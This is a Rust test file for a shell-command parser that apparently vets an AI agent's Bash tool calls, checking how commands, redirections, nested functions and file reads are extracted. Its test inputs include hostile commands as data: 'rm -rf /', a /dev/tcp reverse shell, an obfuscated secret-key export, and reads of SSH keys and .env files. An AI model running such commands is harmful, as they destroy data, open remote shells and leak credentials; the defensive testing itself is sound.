// SPDX-License-Identifier: Apache-2.0 OR MIT

use serde_json::json;
use tenterhook_paths::{FileOp, PathFact};

use super::*;
use crate::description::builtin_programs;

pub(super) fn read_text(text: &str) -> ShellReading {
    let tool = ToolCall::new("Bash", json!({ "command": text }));
    let roots = PathRoots::new(Some("/home/user"), Some("/home/user/project"));
    read_commands(&tool, &roots, Some("/home/user/project"), false, builtin_programs(), None)
}

/// Returns the commands of a script, separated by semicolons; `not understood` is added if parsing failed.
fn commands(text: &str) -> String {
    let read = read_text(text);
    let command = |command: &ShellCommand| {
        let words = command.words.iter().map(|word| word.text.as_str());
        let mut line: Vec<_> = [command.raw.as_str()].into_iter().chain(words).map(str::to_owned).collect();
        line.extend(command.outputs.iter().map(|path| format!(">{}", path.text)));
        line.join(" ")
    };
    let mut all: Vec<_> = read.commands.iter().map(command).collect();
    if read.unparsed {
        all.push("not understood".to_owned());
    }
    all.join("; ")
}

#[track_caller]
fn assert_commands(rows: &[(&str, &str)]) {
    for (text, wanted) in rows {
        assert_eq!(commands(text), *wanted, "{text:?}");
    }
}

#[test]
fn no_command_is_lost_at_the_end_of_a_line() {
    assert_commands(&[
        ("ls|sort|uniq|cat\nrm -rf / >x", "ls; sort; uniq; cat; rm -rf / >x"),
        ("ls|sort|uniq|grep b\ncp a b 2>&1 # x\n", "ls; sort; uniq; grep b; cp a b"),
        ("a && b 2>&1\n\\rm -rf /", "a; b; rm -rf /"),
        ("echo a > b\n\\rm -rf /", "echo a >b; rm -rf /"),
        ("a <<< \"x\"\n\\rm -rf /", "a; rm -rf /"),
        ("( a | b | c\n\\p7 w )", "a; b; c; p7 w"),
        ("x > y | p | q $x\nif p18 w; then z; fi", "x >y; p; q $x; p18 w; z"),
        ("a |& b |& c\np11 <<E\nt\nE", "a; b; c; p11"),
    ]);
}

#[test]
fn compound_commands_are_found_after_prefixes() {
    assert_commands(&[
        ("! for x in a; do git push --force; done", "git push --force"),
        ("! { git push --force; }", "git push --force"),
        ("if ! { a; }; then b; fi", "a; b"),
        ("time { git push --force; }", "git push --force"),
        ("time -f %e rm -rf /", "time -f %e rm -rf /; rm -rf /"),
        ("coproc S { sh -i 2>&1; }", "sh -i"),
        ("! case x in *) a;; esac", "a"),
        ("! (( i++ )) < r | b", "<; b"),
        // Only some shells parse it as arithmetic.
        ("((rm -rf /))", "rm -rf /"),
        ("(( a - b / 2 ))", ""),
    ]);
}

#[test]
fn words_and_files_around_redirections_are_kept() {
    assert_commands(&[
        ("python3 - <<'EOF'\nimport os\nEOF", "python3 -"),
        ("git commit -F - <<E\nx\nE", "git commit -F -"),
        ("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "bash -i"),
        ("psql -h l <<E\n\\x\nE", "psql -h l"),
        ("bash <<E\n\\rm -rf /\nE", "bash; rm -rf /"),
        ("f() { a; } > r; f", "f; a; > >r"),
        ("cat <<E; echo x\nt\nE", "cat; echo x"),
        ("a <<E & b\nt\nE", "a; b"),
        ("for v in; do a; done", "a"),
        ("exec 9<>f", "exec >f"),
    ]);
    let inputs = read_text("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1").commands.remove(0).inputs;
    assert_eq!(inputs.first().map(|path| path.text.as_str()), Some("/dev/tcp/203.0.113.66/4444"));
}

#[test]
fn invalid_scripts_are_reported_as_not_understood() {
    for text in ["a ) b", "if a; then b", "echo 'a", "do a; done", "x=(a"] {
        assert!(commands(text).ends_with("not understood"), "{text}");
    }
}

/// Returns the part of the source that each command was parsed from.
fn spans(text: &str) -> Vec<&str> {
    let span = |command: &ShellCommand| {
        let span = command.span.unwrap();
        text.get(span.start as usize..span.end as usize).unwrap()
    };
    read_text(text).commands.iter().map(span).collect()
}

#[test]
fn commands_know_their_place_in_the_text() {
    assert_eq!(spans("cd x && rm -rf ~/y > log"), ["cd x", "rm -rf ~/y > log"]);
    assert_eq!(spans("a $(b 'c') | d"), ["b 'c'", "a $(b 'c')", "d"]);
    assert_eq!(spans("bash -c 'a; b' && c"), ["bash -c 'a; b'", "bash -c 'a; b'", "bash -c 'a; b'", "c"]);
    assert_eq!(spans("f() { a; }; f; alias g='b c'; g"), ["f", "a", "alias g='b c'", "g", "g"]);
}

#[test]
fn facts_say_how_sure_they_are() {
    let possible = |text: &str| {
        let read = read_text(text);
        let commands = read.commands.into_iter().filter(|command| !command.certainty.is_certain());
        commands.map(|command| command.raw).collect::<Vec<_>>()
    };
    assert_eq!(possible("rm -rf ~/x; cp a b > c"), [""; 0]);
    assert_eq!(possible("rm *.log; rm $x; $y z; rm k"), ["rm", "rm", "$y"]);
    assert_eq!(possible("f() { rm x; }; ls"), ["rm"]);
    assert_eq!(possible("f() { rm x; }; f"), [""; 0]);
    // Only zsh runs `rm` here.
    assert_eq!(possible("=rm x"), ["rm"]);
    let effects = read_text("rm a b*").effects;
    let certain: Vec<_> = effects.iter().map(|effect| effect.certainty.is_certain()).collect();
    assert_eq!(certain, [true, false]);
}

#[test]
fn each_shell_runs_the_lines_before_one_that_it_refuses() {
    // Bash writes to the file. Zsh reads `<1-9>` as a pattern, and only zsh understands the last line.
    let text = "echo x <1-9>/etc/passwd\n{ echo y }";
    let read = read_text(text);
    assert!(!read.unparsed);
    assert!(
        read.commands.iter().any(|command| command.outputs.iter().any(|path| path.text == "/etc/passwd"))
    );
    // Syntax errors of a nested text are reported separately.
    assert!(read_text("{ bash -c \"echo 'a\" }").unparsed);
}

#[test]
fn functions_within_functions_are_read() {
    assert_commands(&[
        ("f1() { f2() { rm x; }; }", "rm x"),
        ("f() { g() { a; }; g; }; f", "f; g; a"),
        (
            "walk() { for d in \"$1\"/*/; do walk \"${d%/}\"; done; }\nwalk src | head",
            "walk src; walk src/*; walk src/*/*; head",
        ),
    ]);
}

#[test]
fn values_are_known_out_of_arrays_and_lines() {
    assert_commands(&[
        ("declare -A op=([a]=\"reset --hard\" [b]=\"clean -fd\"); git ${op[a]}", "git reset --hard"),
        (
            "declare -A op=([a]=\"reset --hard\" [b]=\"clean -fd\"); git ${op[$k]}",
            "git reset --hard; git clean -fd",
        ),
        ("declare -A op; op[a]=\"reset --hard\"; git ${op[$k]}", "git reset --hard"),
        (
            "mapfile -t A < <(printf '%s\\n' a '-b c'); x \"${A[@]}\"",
            "printf %s\\n a -b c; mapfile -t A; x a -b c",
        ),
        ("IFS=, read -r a b <<< \"x,y z\"; p \"$a\" \"$b\" $c", "read -r a b; p x y z $c"),
        (
            "sub=$(printf 'export-%s-keys' \"$(rev <<< terces)\"); gpg \"--$sub\"",
            "rev; printf export-%s-keys secret; gpg --export-secret-keys",
        ),
        ("printf -v x '%s-%s' a b; p $x", "printf -v x %s-%s a b; p a-b"),
    ]);
}

#[test]
fn long_ladders_of_branches_take_no_longer_with_every_step() {
    let mut text = "x=$(a); ".to_owned();
    for number in 0..200 {
        text.push_str(&format!("if b; then x=$x{number}$(c); elif d; then y=$x; fi\n"));
    }
    let read = read_text(&text);
    assert!(!read.unparsed);
    assert!(read.commands.iter().all(|command| command.words.len() < 4));
}

#[test]
fn nothing_is_too_deep() {
    for open in [
        "${x:-", "$(", "$((", "$[", "\"${x:-", "\"$(", "<(", "{ ", "( ", "if ", "f() { ", "! ", "a[$(", "`",
        "[[ ( ",
    ] {
        for times in [30, 58, 64, 200, 3_000] {
            let text = format!("a {}rm -rf /", open.repeat(times));
            commands(&text);
        }
    }
    for (open, close) in [
        ("$(", ")"),
        ("${x:-", "}"),
        ("( ", ")"),
        ("\"$(", ")\""),
        ("a <(", ")"),
        ("{ ", ";}"),
        ("f() { ", ";}"),
    ] {
        for times in [20, 58, 63, 200] {
            commands(&format!("{}rm -rf /{}", open.repeat(times), close.repeat(times)));
        }
    }
}

#[test]
fn the_process_id_is_unknown_in_every_position() {
    for text in ["a$$", "a$$ b", "(a$$)", "x=$$; a$x", "a\"$$\" b"] {
        let programs: Vec<_> =
            read_text(text).commands.iter().map(|command| command.program.clone()).collect();
        assert_eq!(programs, [""], "{text}");
    }
}

#[test]
fn substitutions_for_a_mark_are_bounded_and_omissions_are_reported() {
    let many = |part: &str| part.repeat(4000);
    for text in [
        format!("echo {}| xargs -I% echo {}", many("a "), many("% ")),
        format!("echo {} | xargs -I% rm {}", many("aaaa"), many("%")),
        format!("parallel echo {} ::: {}", many("{} "), many("a ")),
        format!("fd x {} -x echo {}", many("a "), many("{} ")),
        format!("find a b {} -exec echo {} \\;", many("-name a -o "), many("{} ")),
    ] {
        let read = read_text(&text);
        assert!(read.unparsed, "{}", text.get(..60).unwrap());
        let words =
            |command: &ShellCommand| command.words.iter().map(|word| 40 + word.text.len()).sum::<usize>();
        let size: usize = read.commands.iter().map(words).sum();
        assert!(size < 20 << 20, "{size} bytes of {}", text.get(..60).unwrap());
    }
    assert_eq!(
        commands("echo a b | xargs -I% cp % %.old"),
        "echo a b; xargs -I% cp % %.old; cp a a.old; cp b b.old"
    );
}

/// Returns what is recorded about the last command.
fn last_acts(text: &str) -> Vec<&'static str> {
    read_text(text).commands.last().map(|command| command.acts.clone()).unwrap_or_default()
}

#[test]
fn git_commands_that_lose_only_work_of_the_script_are_recorded() {
    let rows: [(&str, &[&str]); 14] = [
        ("cd /tmp/x && git reset --hard", &["scratch"]),
        ("git -C /tmp/x clean -fd", &["scratch"]),
        ("cd /tmp && git reset --hard", &[]),
        ("cd /tmp/x; git reset --hard", &[]),
        ("git reset --hard", &[]),
        ("git branch x && git branch -D x", &[]),
        ("git --no-pager -C /tmp/x clean -fd", &["scratch"]),
        ("cd /tmp/x && git -C /srv/x -C . reset --hard", &[]),
        ("cd /tmp/x && git -C \"\" reset --hard", &["scratch"]),
        ("git --work-tree=/srv/x -C /tmp/x clean -fd", &[]),
        ("cd /tmp/x && GIT_WORK_TREE=/srv/x git clean -fd", &[]),
        ("cd /tmp/x && env GIT_WORK_TREE=/srv/x git clean -fd", &[]),
        ("export GIT_DIR=/srv/x/.git; cd /tmp/x && git clean -fd", &[]),
        ("cd /tmp/x && git -c core.worktree=/srv/x reset --hard", &[]),
    ];
    for (text, wanted) in rows {
        assert_eq!(last_acts(text), wanted, "{text}");
    }
}

#[test]
fn files_that_the_script_has_written_are_not_read() {
    let reads = |text: &str| {
        let read = read_text(text);
        let is_env = |path: &PathFact| path.text == ".env";
        let given = read.commands.last().is_some_and(|command| command.reads().any(is_env));
        let effect = read.effects.iter().any(|effect| effect.does == FileOp::Read && is_env(&effect.path));
        assert_eq!(given, effect, "{text}");
        effect
    };
    for text in [
        "echo A=1 > .env && cat .env",
        "printf 'A=1\\n' > .env && grep A .env",
        "cat > .env <<'EOF' && cat ./x .env\nA=1\nEOF",
        "echo A=1 > .env && true && cat .env",
    ] {
        assert!(!reads(text), "{text}");
    }
    for text in [
        "cat .env",
        // The write may have failed, for example with `set -C`.
        "echo A=1 > .env; cat .env",
        "set -e; echo A=1 > .env; cat .env",
        "echo A=1 > .env || true && cat .env",
        "! echo A=1 > .env && cat .env",
        "{ echo A=1 > .env; true; } && cat .env",
        "f() { return 0; echo A=1 > .env; }; f && cat .env",
        "(exit 0; echo A=1 > .env) && cat .env",
        "if ! echo A=1 > .env; then :; fi && cat .env",
        "while echo A=1 > .env; do break; done && cat .env",
        "echo A=1 >> .env && cat .env",
        "echo A=$KEY > .env && cat .env",
        "cat x > .env && cat .env",
        "[ -f .env ] || echo A=1 > .env; cat .env",
        "if a; then echo A=1 > .env; fi && cat .env",
        "echo A=1 > .env && cp .env.production .env && cat .env",
        "echo A=1 > .env && cp -r ../x/. . && cat .env",
        "(echo A=1 > .env) && cat .env",
    ] {
        assert!(reads(text), "{text}");
    }
}

#[test]
fn the_output_of_a_request_does_not_contain_its_variables() {
    let printed = |text: &str| {
        let read = read_text(text);
        read.commands.last().and_then(|command| command.words.first()).map(|word| word.text.clone())
    };
    for text in [
        "R=$(curl -s -H \"Bearer $TOKEN\" http://localhost/me); echo \"$R\"",
        "R=$(curl -s -H \"Bearer $TOKEN\" http://localhost/me | jq .id); echo \"$R\"",
        "R=$(printf %s \"$TOKEN\" | wc -c); echo \"$R\"",
    ] {
        assert!(printed(text).is_some_and(|word| !word.contains("TOKEN")), "{text}");
    }
    for text in [
        "R=$(curl -sv -H \"Bearer $TOKEN\" http://localhost/me 2>&1); echo \"$R\"",
        "R=$(curl -s http://localhost/me; echo $TOKEN); echo \"$R\"",
        "R=$(printf %s \"$TOKEN\" | rev); echo \"$R\"",
        "R=$(printf %s \"$TOKEN\"; ls | wc -l); echo \"$R\"",
    ] {
        assert!(printed(text).is_some_and(|word| word.contains("TOKEN")), "{text}");
    }
}

#[test]
fn variables_set_for_a_command_are_not_read_as_files() {
    let reads = |text: &str| {
        let in_ssh = |path: &PathFact| path.in_home.as_deref().is_some_and(|path| path.starts_with("~/.ssh"));
        read_text(text).commands.iter().any(|command| command.reads().any(in_ssh))
    };
    assert!(!reads("env SSH_AUTH_SOCK=/home/user/.ssh/agent ssh-add -l"));
    assert!(reads("env LANG=C cat /home/user/.ssh/id_rsa"));
    assert!(reads("some-tool key=/home/user/.ssh/id_rsa"));
}

#[test]
fn many_unparsed_lines_are_searched_for_words() {
    let lines = "x ) y\n".repeat(100);
    let read = read_text(&format!("{lines}y ) rm -rf /etc\n"));
    assert!(read.unparsed && !read.unread.iter().any(UnreadText::is_opaque), "{:?}", read.unread.len());
    assert!(read.unread.len() <= MAX_UNREAD_PER_REASON + 1);
    assert!(read.unread.iter().any(|unread| unread.words().any(|word| word == "rm")));
    let read = read_text(&format!("x ) {}\n", "y".repeat(1000)).repeat(200));
    assert!(read.unread.iter().any(UnreadText::is_opaque));
}
